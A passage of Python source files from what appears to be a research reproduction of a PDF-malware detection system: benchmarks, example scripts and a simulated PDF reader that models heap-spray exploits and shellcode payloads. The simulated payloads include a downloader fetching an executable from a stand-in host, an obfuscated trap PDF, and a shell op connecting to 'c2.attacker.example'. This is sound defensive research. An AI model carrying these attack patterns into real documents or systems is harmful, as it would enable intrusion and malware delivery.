                "shed": shed,
                "shed_rate": shed_rate,
                "peak_queue_depth": snap["peak_queue_depth"],
                "sheds_by_reason": snap["shed"],
            },
        },
    )
