"""Ablation — IAT vs kernel-mode (SSDT) hooking (§III-E).

The paper: "attackers could leverage GetProcAddress() or call kernel
routines directly to bypass IAT hooking ... In the future, we will use
advanced kernel mode hooks".  This bench mounts a stealth dropper
(direct kernel calls) against both hook modes and shows the gap, plus
that conventional malware is caught identically by both.
"""

import random

from repro.analysis import format_table
from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload
from repro.winapi.hooks import HookMode


def _doc(payload, seed=5, padded=True) -> bytes:
    rng = random.Random(seed)
    builder = DocumentBuilder()
    builder.add_page("")
    if padded:
        builder.pad_with_objects(40)
    builder.add_javascript(
        js.spray_script(
            150, payload, rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
    )
    return builder.to_bytes()


def test_ablation_hook_mode(benchmark, emit):
    stealth = _doc(Payload.stealth_dropper("C:\\Temp\\ghost.exe"))
    conventional = _doc(Payload.dropper("C:\\Temp\\loud.exe"), seed=6)

    def run():
        rows = []
        for mode in (HookMode.IAT, HookMode.SSDT):
            pipe = ProtectionPipeline(seed=500, hook_mode=mode)
            stealth_report = pipe.scan(stealth, "stealth.pdf")
            conventional_report = pipe.scan(conventional, "loud.pdf")
            rows.append(
                (
                    mode.value,
                    conventional_report.verdict.malicious,
                    stealth_report.verdict.malicious,
                    sorted(stealth_report.verdict.features.fired()),
                )
            )
        return rows

    rows = benchmark.pedantic(run, rounds=1, iterations=1)
    emit(
        format_table(
            ["hook mode", "conventional caught", "stealth caught", "stealth features"],
            [[m, str(c), str(s), str(f)] for m, c, s, f in rows],
        )
    )

    by_mode = {m: (c, s) for m, c, s, _f in rows}
    # Both modes handle conventional malware.
    assert by_mode["iat"][0] and by_mode["ssdt"][0]
    # Only kernel-mode hooks catch the direct-call stealth dropper.
    assert not by_mode["iat"][1]
    assert by_mode["ssdt"][1]
