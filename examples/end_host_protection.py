"""End-host protection workflow (the paper's deployment story).

Simulates a user's day: documents arrive (download/mail), each is
instrumented by the front-end on arrival, several are opened
simultaneously in one reader session, the runtime detector watches, and
documents proven benign are de-instrumented in the background so later
opens cost nothing.

Run:  python examples/end_host_protection.py
"""

import random

from repro.core.deinstrument import DeinstrumentationPolicy
from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


def incoming_documents():
    """Three downloads: two legitimate, one exploit kit product."""
    invoice = DocumentBuilder()
    invoice.add_page("INVOICE #2231 — net 30")
    invoice.add_javascript(
        'var f = this.getField("total"); if (f.value === "") app.alert("Fill in the total");'
    )
    yield "invoice-2231.pdf", invoice.to_bytes()

    newsletter = DocumentBuilder()
    for week in range(4):
        newsletter.add_page(f"Week {week + 1} digest")
    newsletter.pad_with_objects(30)
    newsletter.add_javascript(js.benign_report_script(400, 2048, random.Random(4)))
    yield "newsletter.pdf", newsletter.to_bytes()

    rng = random.Random(1337)
    trap = DocumentBuilder()
    trap.add_page("")  # one blank page, as usual for malware
    trap.add_javascript(
        js.spray_script(
            180,
            Payload.downloader("http://cdn.totally-legit.example/reader_update.exe",
                               "C:\\Temp\\reader_update.exe"),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, rng),
        ),
        hex_obfuscate_keyword=True,
        encoding_levels=2,
    )
    yield "crypto-whitepaper.pdf", trap.to_bytes()


def main() -> None:
    pipeline = ProtectionPipeline(
        deinstrument_policy=DeinstrumentationPolicy(opens_before=1)
    )

    print("=== Phase I: instrument on arrival ===")
    protected_docs = []
    for name, data in incoming_documents():
        protected = pipeline.protect(data, name)
        protected_docs.append(protected)
        features = protected.features
        print(
            f"  {name:<26} js={str(features.has_javascript):<5} "
            f"static F1..F5={features.binary()} "
            f"(+{len(protected.data) - len(data)} bytes monitoring code)"
        )

    print("\n=== Phase II: user opens everything at once ===")
    session = pipeline.session()
    reports = [session.open(p, fire_close=False) for p in protected_docs]
    for protected, report in zip(protected_docs, reports):
        print(f"  {protected.name:<26} -> {report.verdict.summary()}")

    print("\n=== Alerts & confinement ===")
    for alert in session.monitor.alerts:
        print(f"  ALERT on {alert.verdict.document} (malscore {alert.verdict.malscore:g})")
        for feature in alert.verdict.features.fired_names():
            print(f"    evidence : {feature}")
        for action in alert.confinement_actions:
            print(f"    action   : {action}")
    session.close()

    print("\n=== Background de-instrumentation of proven-benign docs ===")
    for protected, report in zip(protected_docs, reports):
        restored = pipeline.maybe_deinstrument(protected, report)
        if restored is None:
            print(f"  {protected.name:<26} kept instrumented")
        else:
            doc = PDFDocument.from_bytes(restored)
            still_wrapped = any(
                "SOAP.request" in doc.get_javascript_code(a)
                for a in doc.iter_javascript_actions()
            )
            print(
                f"  {protected.name:<26} de-instrumented "
                f"(monitoring code left: {still_wrapped})"
            )


if __name__ == "__main__":
    main()
