"""Quickstart: protect a document, open it, read the verdict.

Run:  python examples/quickstart.py
"""

from repro import open_protected, protect
from repro.corpus.malicious import heap_spray_dropper
from repro.pdf.builder import DocumentBuilder


def build_benign_report() -> bytes:
    """A perfectly ordinary document with a little JavaScript."""
    builder = DocumentBuilder()
    builder.add_page("Quarterly revenue: up and to the right.")
    builder.add_page("Appendix")
    builder.set_info(Title="Q3 Report", Author="Finance")
    builder.add_javascript(
        "var stamp = util.printf('Generated for %s', this.info.Title);"
        "app.alert(stamp);"
    )
    return builder.to_bytes()


def main() -> None:
    # --- a benign document sails through -------------------------------
    benign = protect(build_benign_report(), "q3-report.pdf")
    report = open_protected(benign)
    print("benign document :", report.verdict.summary())
    print("  alerts shown  :", report.outcome.handle.alerts)

    # --- a malicious heap-spray dropper is detected and confined -------
    malicious_bytes = heap_spray_dropper(seed=7).to_bytes()
    malicious = protect(malicious_bytes, "free-ebook.pdf")
    report = open_protected(malicious)
    print("malicious doc   :", report.verdict.summary())
    print("  malscore      :", report.verdict.malscore)
    for alert in report.alerts:
        for action in alert.confinement_actions:
            print("  confinement   :", action)
    print("  quarantined   :", report.quarantined_files)

    assert not open_protected(benign).verdict.malicious
    assert report.verdict.malicious


if __name__ == "__main__":
    main()
