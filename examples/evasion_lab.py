"""Evasion lab: mount the §IV advanced attacks and watch them fail.

For each adversary the paper analyses — mimicry, runtime patching,
staged installation, delayed execution — this script mounts the attack
against the live pipeline and reports whether the countermeasure held.

Run:  python examples/evasion_lab.py
"""

from repro.attacks import (
    delayed_attack_document,
    fake_message_attack_document,
    patch_out_monitoring,
    staged_attack_document,
    structural_mimicry_document,
)
from repro.attacks.staged import INSTALL_METHODS, trigger_event_for
from repro.core.pipeline import ProtectionPipeline
from repro.corpus.malicious import heap_spray_dropper


def show(label: str, held: bool, detail: str = "") -> None:
    status = "DEFENDED" if held else "BYPASSED"
    print(f"  [{status}] {label}" + (f" — {detail}" if detail else ""))


def main() -> None:
    pipeline = ProtectionPipeline(seed=1234)
    print("=== Mimicry attacks (§IV-B) ===")

    report = pipeline.scan(fake_message_attack_document(), "forged-leave.pdf")
    show(
        "forged 'leave' message with scraped/guessed key",
        report.verdict.malicious,
        f"fake messages seen: {report.fake_messages} (zero tolerance)",
    )

    protected = pipeline.protect(structural_mimicry_document(), "benign-looking.pdf")
    report = pipeline.open_protected(protected)
    show(
        "structural mimicry against static features [8]",
        report.verdict.malicious,
        f"static F1..F5 = {protected.features.binary()} but runtime fired "
        f"{report.verdict.features.fired_names()}",
    )

    print("\n=== Runtime patching attack (§IV-B) ===")
    victim = pipeline.protect(heap_spray_dropper(seed=3).to_bytes(), "victim.pdf")
    patched = patch_out_monitoring(victim.data)
    session = pipeline.session()
    outcome = session.open_raw(patched, "patched.pdf")
    neutralized = bool(outcome.handle.script_errors) and not (
        session.system.filesystem.executables()
    )
    show(
        "patch out monitoring code, run orphaned payload",
        neutralized,
        "orphaned ciphertext failed to execute; no syscalls made",
    )
    session.close()

    print("\n=== Staged attacks (Table IV) ===")
    for method in sorted(INSTALL_METHODS):
        protected = pipeline.protect(staged_attack_document(method=method), f"{method}.pdf")
        session = pipeline.session()
        open_report = session.open(protected, fire_close=False)
        session.reader.fire_event(open_report.outcome.handle, trigger_event_for(method))
        verdict = session.verdict_for(protected)
        show(
            f"stage-2 installed via {method}()",
            verdict.malicious and verdict.features.any_in_js,
            "wrapper re-instrumented the dynamic script",
        )
        session.close()

    print("\n=== Delayed execution (§IV-B) ===")
    for use_interval in (False, True):
        name = "setInterval" if use_interval else "setTimeOut"
        report = pipeline.scan(
            delayed_attack_document(use_interval=use_interval), f"{name}.pdf"
        )
        show(f"bomb scheduled via app.{name}()", report.verdict.malicious)


if __name__ == "__main__":
    main()
