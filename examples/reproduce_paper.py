"""Reproduce every headline result of the paper in one run (miniature).

A compact, self-contained version of what ``pytest benchmarks/
--benchmark-only`` does at full fidelity: small corpora, every
experiment, one summary table.  Takes well under a minute.

Run:  python examples/reproduce_paper.py
"""

import random
import time

from repro.analysis import format_table
from repro.analysis.stats import fraction_at_least, fraction_below, summarize
from repro.attacks import structural_mimicry_document
from repro.core.chains import analyze_chains
from repro.core.pipeline import ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset
from repro.corpus.sized import document_with_scripts
from repro.pdf.document import PDFDocument
from repro.reader import Reader
from repro.winapi.process import System


def main() -> None:
    start = time.time()
    pipeline = ProtectionPipeline(seed=2014)
    dataset = build_dataset(CorpusConfig(n_benign=80, n_benign_with_js=40, n_malicious=120))
    rows = []

    # --- Figure 6: JS-chain ratio separation ---------------------------
    benign_ratios = [
        analyze_chains(PDFDocument.from_bytes(s.data)).ratio
        for s in dataset.benign_with_js
    ]
    mal_ratios = [
        analyze_chains(PDFDocument.from_bytes(s.data)).ratio for s in dataset.malicious
    ]
    rows.append(
        ["Fig. 6", "malicious ratio >= 0.2 ~95% / benign < 0.2 ~90%",
         f"{fraction_at_least(mal_ratios, 0.2):.0%} / {fraction_below(benign_ratios, 0.2):.0%}"]
    )

    # --- Table VIII: detection accuracy --------------------------------
    fp = 0
    for sample in dataset.benign_with_js:
        if pipeline.scan(sample.data, sample.name).verdict.malicious:
            fp += 1
    detected = noise = missed = 0
    memories = []
    for sample in dataset.malicious:
        report = pipeline.scan(sample.data, sample.name)
        if report.did_nothing:
            noise += 1
        elif report.verdict.malicious:
            detected += 1
        else:
            missed += 1
        if 8 in report.verdict.features.fired():  # heap-spraying samples
            memories.append(report.outcome.handle.js_heap_bytes / 2**20)
    working = len(dataset.malicious) - noise
    rows.append(
        ["Tab. VIII", "FP 0/994; TP 97.3%; noise 5.8%; FN 2.5%",
         f"FP {fp}/{len(dataset.benign_with_js)}; TP {detected / working:.1%}; "
         f"noise {noise / len(dataset.malicious):.1%}; FN {missed / len(dataset.malicious):.1%}"]
    )

    # --- Figure 7: in-JS memory bands ----------------------------------
    mem = summarize(memories)
    rows.append(
        ["Fig. 7", "malicious mean 336 MB, min 103 MB",
         f"mean {mem.mean:.0f} MB, min {mem.minimum:.0f} MB"]
    )

    # --- Figure 8: context-free memory is useless ----------------------
    reader = Reader(system=System())
    doc = dataset.benign[0].data
    for _ in range(12):
        reader.open(doc)
    rows.append(
        ["Fig. 8", "benign stacks blow past any threshold",
         f"12 benign copies -> {reader.memory_counters().private_usage >> 20} MB total"]
    )

    # --- §V-D2: monitoring overhead -------------------------------------
    def open_cost(data, protect):
        if protect:
            protected = pipeline.protect(data, "t.pdf")
            session = pipeline.session()
            t0 = session.reader.clock.now()
            session.open(protected, pump_seconds=0.0, fire_close=False)
            cost = session.reader.clock.now() - t0
            session.close()
            return cost
        fresh = Reader(system=System())
        t0 = fresh.clock.now()
        fresh.open(data)
        return fresh.clock.now() - t0

    probe = document_with_scripts(1, seed=1)
    overhead = open_cost(probe, True) - open_cost(probe, False)
    rows.append(["§V-D2", "0.093 s per instrumented script", f"{overhead:.3f} s"])

    # --- §IV: mimicry survives nothing ----------------------------------
    mimic_report = pipeline.scan(structural_mimicry_document(), "mimic.pdf")
    rows.append(
        ["§IV", "mimicry/staged/delayed all detected",
         f"structural mimicry -> {'DETECTED' if mimic_report.verdict.malicious else 'missed'}"]
    )

    print(format_table(["experiment", "paper", "this run"], rows))
    print(f"\ncompleted in {time.time() - start:.1f}s — full-fidelity versions:"
          " pytest benchmarks/ --benchmark-only")


if __name__ == "__main__":
    main()
