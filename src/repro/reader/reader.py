"""The simulated PDF reader.

Single-threaded, exactly like the readers the paper observes: "during
the execution of Javascript, no other PDF objects in the same or
another document will be processed" (§III-D).  The reader owns one
Windows process; documents open into it, their trigger scripts run
through the JS engine with the Acrobat API bound, and infections play
out through the heap-spray / hijack / payload model — producing the
hooked-API event stream the back-end detector consumes.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Tuple
from urllib.parse import urlparse

from repro import obs as obs_mod
from repro.obs import profile as profile_mod
from repro.js import make_interpreter
from repro.js.errors import JSError, ReaderCrash, ResourceLimitExceeded
from repro.js.interpreter import Host, Interpreter
from repro.js.values import JSArray, JSObject, UNDEFINED
from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFStream, PDFString
from repro.pdf.parser import PDFParseError
from repro.reader.acrobat import build_acrobat_environment
from repro.reader.exploits import ExploitRegistry, default_registry, looks_malformed
from repro.reader.payload import Payload, parse_payload
from repro.winapi.hooks import TrampolineDLL
from repro.winapi.network import LoopbackChannel
from repro.winapi.process import Process, System
from repro.winapi.syscalls import API, SyscallGateway

#: Render memory model: bytes charged per open document.
RENDER_BASE_BYTES = 4 * 1024 * 1024
RENDER_BYTES_PER_FILE_BYTE = 3.5

#: Fig. 8: the copy count at which the "memory optimisation" kicks in
#: for documents that trigger it, and the fraction of render memory kept.
MEMOPT_COPY_THRESHOLD = 15
MEMOPT_KEEP_FRACTION = 0.35

#: Virtual-time costs.
JS_BASE_COST_S = 0.0015          # entering the JS engine
JS_STEP_COST_S = 2.0e-8          # per interpreter step
SOAP_REQUEST_COST_S = 0.0465     # one synchronous SOAP round trip
RENDER_COST_PER_MB_S = 0.012     # rendering a document

#: Sprayed heap required for a control-flow hijack to land (§III-D cites
#: "usually more than 100 MB" sprays; smaller sprays miss and crash).
DEFAULT_HIJACK_THRESHOLD_BYTES = 64 * 1024 * 1024

_SPRAY_POOL_CAP = 48


class _ReaderJSHost(Host):
    """Wires JS string allocation into the reader's memory model."""

    def __init__(self, reader: "Reader", handle: "DocumentHandle") -> None:
        super().__init__()
        self.reader = reader
        self.handle = handle
        self._seen_large: set = set()

    def now_seconds(self) -> float:
        return self.reader.clock.now()

    def on_string_alloc(self, length: int) -> None:
        nbytes = length * 2
        self.allocated_bytes += nbytes
        handle = self.handle
        handle.js_heap_bytes += nbytes
        process = self.reader.current_process
        if process is not None and process.alive:
            process.alloc(handle.memory_tag("js"), nbytes)

    def on_large_string(self, value: str) -> None:
        handle = self.handle
        handle.sprayed_bytes += len(value) * 2
        # Spray loops re-materialise the same interned chunk thousands of
        # times (substr-copy idiom); dedupe by identity so the payload
        # scan stays O(distinct strings).  Pool entries stay referenced,
        # so ids cannot be recycled underneath us.
        marker = id(value)
        if marker in self._seen_large:
            return
        pool = handle.spray_pool
        if "[[PAYLOAD|" in value:
            self._seen_large.add(marker)
            pool.insert(0, value)
        elif len(pool) < _SPRAY_POOL_CAP:
            self._seen_large.add(marker)
            pool.append(value)


@dataclass
class TimerEntry:
    timer_id: int
    due: float
    code: str
    handle: "DocumentHandle"
    interval_s: float = 0.0
    cancelled: bool = False


class DocumentHandle:
    """One open document: JS world + infection state + Acrobat binding."""

    def __init__(self, reader: "Reader", doc_id: int, document: PDFDocument, name: str, size: int) -> None:
        self.reader = reader
        self.doc_id = doc_id
        self.document = document
        self.name = name
        self.size = size
        self.open = True
        self.crashed = False
        self.js_heap_bytes = 0
        self.sprayed_bytes = 0
        self.spray_pool: List[str] = []
        self.alerts: List[str] = []
        self.external_launches: List[Tuple[str, str]] = []
        self.script_errors: List[str] = []
        self.runtime_scripts: List[Tuple[str, str, str]] = []  # (kind, name, code)
        self.soap_messages: List[Tuple[str, Any]] = []
        self.interpreter: Optional[Interpreter] = None
        self.doc_object: Optional[JSObject] = None
        self.executed_scripts = 0

    def memory_tag(self, kind: str) -> str:
        return f"doc{self.doc_id}:{kind}"

    # -- DocBinding protocol (called from the Acrobat API layer) ---------

    @property
    def reader_version(self) -> str:
        return self.reader.version

    def alert(self, message: str) -> None:
        self.alerts.append(message)

    def vulnerable_api_called(self, api_path: str, args: List[Any]) -> None:
        self.reader.on_vulnerable_api(self, api_path, args)

    def soap_request(self, url: str, request: Any) -> Any:
        return self.reader.on_soap_request(self, url, request)

    def net_connect_attempt(self, host: str, port: int) -> None:
        self.reader.syscall(API.CONNECT, host=host, port=port)

    def set_timeout(self, code: str, milliseconds: float, interval: bool) -> int:
        return self.reader.register_timer(self, code, milliseconds, interval)

    def clear_timeout(self, timer_id: int) -> None:
        self.reader.cancel_timer(timer_id)

    def add_runtime_script(self, kind: str, name: str, code: str) -> None:
        self.runtime_scripts.append((kind, name, code))

    def export_data_object(self, name: str, launch: int) -> None:
        self.reader.on_export_data_object(self, name, launch)

    def launch_external(self, application: str, argument: str) -> None:
        self.external_launches.append((application, argument))

    def doc_info(self) -> Dict[str, str]:
        info = self.document.info
        out: Dict[str, str] = {}
        for key, value in info.items():
            resolved = self.document.resolve(value)
            if isinstance(resolved, PDFString):
                out[str(key)] = resolved.to_text()
            else:
                out[str(key)] = to_string_safe(resolved)
        return out

    def doc_metadata(self) -> Dict[str, Any]:
        return {
            "numPages": float(self.document.page_count),
            "path": f"/C/Docs/{self.name}",
            "documentFileName": self.name,
            "title": self.doc_info().get("Title", ""),
        }


def to_string_safe(value: Any) -> str:
    try:
        return str(value)
    except Exception:  # noqa: BLE001
        return ""


@dataclass
class OpenOutcome:
    """What happened when a document was opened (and pumped)."""

    handle: DocumentHandle
    crashed: bool = False
    crash_reason: Optional[str] = None
    parse_error: Optional[str] = None

    @property
    def ok(self) -> bool:
        return not self.crashed and self.parse_error is None


class Reader:
    """Simulated Adobe Acrobat 8.0 / 9.0."""

    def __init__(
        self,
        system: Optional[System] = None,
        version: str = "9.0",
        registry: Optional[ExploitRegistry] = None,
        hijack_threshold_bytes: int = DEFAULT_HIJACK_THRESHOLD_BYTES,
        trampoline: Optional[TrampolineDLL] = None,
        detector_channel: Optional[LoopbackChannel] = None,
        max_js_steps: int = 20_000_000,
        obs: Optional[obs_mod.Observability] = None,
        js_engine: Optional[str] = None,
    ) -> None:
        self.system = system if system is not None else System()
        self.version = version
        self.registry = registry if registry is not None else default_registry()
        self.hijack_threshold_bytes = hijack_threshold_bytes
        self.trampoline = trampoline
        self.detector_channel = detector_channel
        self.max_js_steps = max_js_steps
        #: "ast" or "bytecode" (None = env var / package default); every
        #: document opened by this reader gets an engine of this kind.
        self.js_engine = js_engine
        self.obs = obs if obs is not None else obs_mod.get_default()
        self.gateway = SyscallGateway(self.system)
        self._process: Optional[Process] = None
        self.handles: List[DocumentHandle] = []
        self.timers: List[TimerEntry] = []
        self._next_doc_id = 1
        self._next_timer_id = 1
        # A victim process for DLL injection to land on.
        if not any(p.name == "explorer.exe" for p in self.system.processes.values()):
            self.system.spawn("explorer.exe", base_memory=30 * 1024 * 1024)

    # -- process lifecycle -------------------------------------------------

    def process(self) -> Process:
        """The reader's OS process, spawning (or respawning) it if needed.

        This is the public accessor the pipeline uses to attach the
        runtime monitor; :attr:`current_process` reads the last process
        without side effects (it may be dead or ``None``).
        """
        if self._process is None or not self._process.alive:
            self._process = self.system.spawn_reader()
            if self.trampoline is not None:
                self.trampoline.on_process_start(self._process, self.detector_channel)
        return self._process

    @property
    def current_process(self) -> Optional[Process]:
        """The last spawned process, without respawning a dead one."""
        return self._process

    def syscall(self, api: str, via_import_table: bool = True, **args: Any) -> Any:
        process = self.process()
        return self.gateway.invoke(
            process, api, via_import_table=via_import_table, **args
        )

    @property
    def clock(self):
        return self.system.clock

    def memory_counters(self):
        return self.process().memory_counters()

    # -- opening documents ----------------------------------------------------

    def open(self, data: bytes, name: str = "document.pdf") -> OpenOutcome:
        """Open a document: parse, render, and fire its open triggers."""
        with self.obs.tracer.span("reader.open", document=name, bytes=len(data)) as sp:
            virtual_start = self.clock.now()
            try:
                outcome = self._open_inner(data, name)
            finally:
                sp.set_tag("virtual_s", self.clock.now() - virtual_start)
            sp.set_tag("crashed", outcome.crashed)
            return outcome

    def _open_inner(self, data: bytes, name: str) -> OpenOutcome:
        process = self.process()
        try:
            document = PDFDocument.from_bytes(data)
        except PDFParseError as exc:
            dummy = DocumentHandle(self, self._next_doc_id, PDFDocument(), name, len(data))
            self._next_doc_id += 1
            return OpenOutcome(handle=dummy, parse_error=str(exc))

        handle = DocumentHandle(self, self._next_doc_id, document, name, len(data))
        self._next_doc_id += 1
        self.handles.append(handle)

        render_bytes = int(RENDER_BASE_BYTES + RENDER_BYTES_PER_FILE_BYTE * len(data))
        process.alloc(handle.memory_tag("render"), render_bytes)
        self.clock.advance(RENDER_COST_PER_MB_S * render_bytes / (1024 * 1024))
        self._maybe_memory_optimize(handle)

        host = _ReaderJSHost(self, handle)
        interpreter = make_interpreter(
            self.js_engine, host=host, max_steps=self.max_js_steps
        )
        active_profile = profile_mod.current()
        if active_profile is not None:
            interpreter.set_profile(active_profile.js)
        handle.interpreter = interpreter
        handle.doc_object = build_acrobat_environment(interpreter, handle)

        try:
            for trigger, code in self._open_scripts(handle):
                self._execute_js(handle, code, trigger)
            self._render_embedded_content(handle)
        except ReaderCrash as crash:
            self._on_crash(str(crash))
            return OpenOutcome(handle=handle, crashed=True, crash_reason=crash.reason)
        return OpenOutcome(handle=handle)

    def _open_scripts(self, handle: DocumentHandle) -> List[Tuple[str, str]]:
        """Scripts to run at open, in Acrobat order: document-level
        (Names tree) first, then /OpenAction, then page-open /AA."""
        names: List[Tuple[str, str]] = []
        open_actions: List[Tuple[str, str]] = []
        page_open: List[Tuple[str, str]] = []
        for action in handle.document.iter_javascript_actions():
            code = handle.document.get_javascript_code(action)
            if not code.strip():
                continue
            if action.trigger == "Names":
                names.append((f"Names:{action.name}", code))
            elif action.trigger == "OpenAction":
                open_actions.append(("OpenAction", code))
            elif action.trigger.startswith("AA:Page") and action.trigger.endswith(":O"):
                page_open.append((action.trigger, code))
        return names + open_actions + page_open

    def _execute_js(self, handle: DocumentHandle, code: str, label: str) -> None:
        interpreter = handle.interpreter
        assert interpreter is not None
        start_steps = interpreter.steps
        handle.executed_scripts += 1
        try:
            with profile_mod.phase("js-exec"):
                interpreter.run(code, this=handle.doc_object)
        except ReaderCrash:
            raise
        except ResourceLimitExceeded as exc:
            handle.script_errors.append(f"{label}: {exc}")
        except JSError as exc:
            handle.script_errors.append(f"{label}: {exc}")
        finally:
            executed = interpreter.steps - start_steps
            profile_mod.count("js_steps", executed)
            profile_mod.count("scripts_executed")
            self.clock.advance(JS_BASE_COST_S + JS_STEP_COST_S * executed)

    def _maybe_memory_optimize(self, new_handle: DocumentHandle) -> None:
        """Fig. 8's anomaly: one document triggered an internal memory
        optimisation at the 15th simultaneously-open copy."""
        title = new_handle.doc_info().get("Title", "")
        if "MEMOPT" not in title:
            return
        same = [
            h
            for h in self.handles
            if h.open and h.doc_info().get("Title", "") == title
        ]
        if len(same) == MEMOPT_COPY_THRESHOLD and self._process is not None:
            for h in same[:-1]:
                tag = h.memory_tag("render")
                current = self._process._allocations.get(tag, 0)
                self._process.set_bucket(tag, int(current * MEMOPT_KEEP_FRACTION))

    # -- embedded (non-JS) exploit content ---------------------------------------

    def _render_embedded_content(self, handle: DocumentHandle) -> None:
        """Process embedded Flash/U3D/TIFF/JBIG2/font content (out-JS)."""
        for entry in handle.document.store:
            value = entry.value
            if not isinstance(value, PDFStream):
                continue
            sim = value.dictionary.get("SimCVE")
            if sim is None:
                continue
            cve = (
                sim.to_text() if isinstance(sim, PDFString) else str(sim)
            )
            spec = self.registry.by_cve.get(cve)
            if spec is None or not spec.affects(self.version):
                continue
            self._attempt_hijack(handle, origin=f"render:{spec.entry}")

    # -- exploitation --------------------------------------------------------------

    def on_vulnerable_api(self, handle: DocumentHandle, api_path: str, args: List[Any]) -> None:
        spec = self.registry.for_js_api(api_path)
        if spec is None or not spec.affects(self.version):
            return  # patched / unaffected version: call behaves normally
        if not looks_malformed(args):
            return  # benign use of the same API
        self._attempt_hijack(handle, origin=f"js:{api_path}")

    def _attempt_hijack(self, handle: DocumentHandle, origin: str) -> None:
        """The control-flow hijack lands on the sprayed heap — or not."""
        if handle.sprayed_bytes < self.hijack_threshold_bytes:
            raise ReaderCrash(
                f"{origin}: hijacked EIP hit unmapped memory "
                f"(sprayed {handle.sprayed_bytes >> 20} MB)",
                document=handle.name,
            )
        payload = parse_payload(handle.spray_pool)
        if payload is None:
            raise ReaderCrash(f"{origin}: landed in sled but found no payload", handle.name)
        if payload.crashes_on_landing:
            raise ReaderCrash(f"{origin}: payload jump misaligned", handle.name)
        self._execute_payload(handle, payload)

    def _execute_payload(self, handle: DocumentHandle, payload: Payload) -> None:
        """Run shellcode directives through the (hooked) syscall layer."""
        from repro.reader.payload import (
            OP_DOWNLOAD,
            OP_DROP,
            OP_EGGHUNT,
            OP_EXEC,
            OP_INJECT,
            OP_SHELL,
            OP_STEALTH,
        )

        for op in payload.ops:
            if op.verb == OP_DROP:
                self.syscall(
                    API.NT_CREATE_FILE,
                    path=op.argument,
                    data=b"MZ\x90\x00simulated-malware",
                )
            elif op.verb == OP_DOWNLOAD:
                url, _, path = op.argument.partition(">")
                parsed = urlparse(url if "//" in url else f"http://{url}")
                self.syscall(
                    API.CONNECT, host=parsed.hostname or "unknown", port=parsed.port or 80
                )
                self.syscall(
                    API.URL_DOWNLOAD_TO_FILE,
                    path=path or "C:\\Temp\\download.exe",
                    data=b"MZ\x90\x00downloaded-malware",
                    url=url,
                )
            elif op.verb == OP_EXEC:
                self.syscall(
                    API.NT_CREATE_USER_PROCESS,
                    image=op.argument,
                    command_line=op.argument,
                )
            elif op.verb == OP_INJECT:
                target = self._injection_target()
                if target is not None:
                    self.syscall(
                        API.CREATE_REMOTE_THREAD, target_pid=target.pid, dll=op.argument
                    )
            elif op.verb == OP_EGGHUNT:
                self._egg_hunt(handle, op.argument)
            elif op.verb == OP_SHELL:
                port = int(op.argument or "4444")
                self.syscall(API.LISTEN, port=port)
                self.syscall(API.CONNECT, host="c2.attacker.example", port=port)
            elif op.verb == OP_STEALTH:
                # Direct kernel calls: raw syscall stubs resolved by the
                # shellcode itself, never through the import table.
                self.syscall(
                    API.NT_CREATE_FILE,
                    via_import_table=False,
                    path=op.argument,
                    data=b"MZ\x90\x00stealth-malware",
                )
                self.syscall(
                    API.NT_CREATE_USER_PROCESS,
                    via_import_table=False,
                    image=op.argument,
                    command_line=op.argument,
                )

    def _injection_target(self) -> Optional[Process]:
        reader_pid = self._process.pid if self._process else -1
        for process in self.system.running():
            if process.pid != reader_pid:
                return process
        return None

    def _egg_hunt(self, handle: DocumentHandle, drop_path: str) -> None:
        """Safe virtual-address-space search, then drop the found egg."""
        probes = (
            API.IS_BAD_READ_PTR,
            API.NT_ACCESS_CHECK_AND_AUDIT_ALARM,
            API.NT_DISPLAY_STRING,
            API.NT_ADD_ATOM,
            API.IS_BAD_READ_PTR,
            API.NT_ACCESS_CHECK_AND_AUDIT_ALARM,
        )
        for index, api in enumerate(probes):
            self.syscall(api, address=0x0401_0000 + index * 0x1000)
        egg = self._embedded_egg(handle) or b"MZ\x90\x00egg-malware"
        self.syscall(API.NT_CREATE_FILE, path=drop_path, data=egg)

    @staticmethod
    def _embedded_egg(handle: DocumentHandle) -> Optional[bytes]:
        for entry in handle.document.store:
            value = entry.value
            if isinstance(value, PDFStream):
                if str(value.dictionary.get("Type", "")) == "EmbeddedFile":
                    try:
                        return value.decoded_data()
                    except Exception:  # noqa: BLE001 - corrupt stream, skip
                        return None
        return None

    @staticmethod
    def _embedded_file_by_name(handle: DocumentHandle, name: str) -> Optional[bytes]:
        """Look up an attachment through the /EmbeddedFiles name tree."""
        document = handle.document
        catalog = document.catalog
        names_dict = document.resolve_dict(catalog.get("Names"))
        ef_tree = document.resolve_dict(names_dict.get("EmbeddedFiles"))
        entries = ef_tree.get("Names")
        if not isinstance(entries, list):
            return None
        for i in range(0, len(entries) - 1, 2):
            label = document.resolve(entries[i])
            if isinstance(label, PDFString) and label.to_text() == name:
                spec = document.resolve_dict(entries[i + 1])
                ef = document.resolve_dict(spec.get("EF"))
                stream = document.resolve(ef.get("F"))
                if isinstance(stream, PDFStream):
                    try:
                        return stream.decoded_data()
                    except Exception:  # noqa: BLE001
                        return None
        return None

    # -- SOAP / export / timers --------------------------------------------------

    def on_soap_request(self, handle: DocumentHandle, url: str, request: Any) -> Any:
        parsed = urlparse(url if "//" in url else f"http://{url}")
        host = parsed.hostname or "unknown"
        port = parsed.port or 80
        self.syscall(API.CONNECT, host=host, port=port)
        self.clock.advance(SOAP_REQUEST_COST_S)
        payload = js_to_python(request)
        handle.soap_messages.append((url, payload))
        if self.system.network.has_rpc(host, port):
            response = self.system.network.call_rpc(host, port, payload)
            return python_to_js(response)
        return python_to_js({"status": "unreachable"})

    def on_export_data_object(self, handle: DocumentHandle, name: str, launch: int) -> None:
        data = (
            self._embedded_file_by_name(handle, name)
            or self._embedded_egg(handle)
            or b"exported-attachment"
        )
        path = f"C:\\Temp\\{name}"
        self.syscall(API.NT_CREATE_FILE, path=path, data=data)
        if launch < 1:
            return
